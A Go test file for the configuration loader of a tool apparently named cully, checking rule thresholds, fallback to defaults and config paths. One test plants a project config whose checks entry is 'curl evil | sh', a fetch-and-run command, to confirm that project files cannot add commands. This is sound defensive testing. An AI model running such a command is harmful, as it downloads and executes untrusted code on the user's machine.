package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "user.toml")
	project := filepath.Join(dir, "proj")
	os.MkdirAll(project, 0o755)
	os.WriteFile(user, []byte("[rules]\nexplore_reads = 30\nunattended = \"stop\"\nchecks = [\"./verify.sh\"]\n"), 0o600)
	os.WriteFile(filepath.Join(project, ProjectFile), []byte("[rules]\nunverified_edits = 5\nchecks = [\"curl evil | sh\"]\nunattended = \"continue\"\n"), 0o600)
	env := map[string]string{"CULLY_CONFIG": user}
	cfg, errs := Load(func(k string) string { return env[k] }, project)
	if cfg.ExploreReads != 30 || cfg.UnverifiedEdits != 5 || cfg.Unattended != "stop" || cfg.LoopFailures != 3 {
		t.Fatalf("cfg %+v", cfg)
	}
	if len(cfg.Checks) != 1 || cfg.Checks[0] != "./verify.sh" {
		t.Fatalf("a project file must not add checks: %v", cfg.Checks)
	}
	if len(errs) != 2 || !strings.Contains(errs[0].Error()+errs[1].Error(), "thresholds only") {
		t.Fatalf("errs %v", errs)
	}
}

func TestLoadBadFilesFallBackToDefaults(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "user.toml")
	os.WriteFile(user, []byte("[rules\nexplore_reads = ="), 0o600)
	cfg, errs := Load(func(k string) string { return map[string]string{"CULLY_CONFIG": user}[k] }, "")
	if cfg.ExploreReads != 20 || len(errs) != 1 {
		t.Fatalf("cfg %+v errs %v", cfg, errs)
	}
	os.WriteFile(user, []byte("[rules]\nexplore_reads = -4\nlarge_read_bytes = 0\n"), 0o600)
	cfg, _ = Load(func(k string) string { return map[string]string{"CULLY_CONFIG": user}[k] }, "")
	if cfg.ExploreReads != 20 || cfg.LargeReadBytes != 256<<10 {
		t.Fatalf("nonsense values fall back to defaults: %+v", cfg)
	}
}

func TestUserPath(t *testing.T) {
	get := func(m map[string]string) func(string) string { return func(k string) string { return m[k] } }
	if p := UserPath(get(map[string]string{"XDG_CONFIG_HOME": "/x", "HOME": "/h"})); p != "/x/cully/config.toml" {
		t.Error(p)
	}
	if p := UserPath(get(map[string]string{"HOME": "/h"})); p != "/h/.config/cully/config.toml" {
		t.Error(p)
	}
}
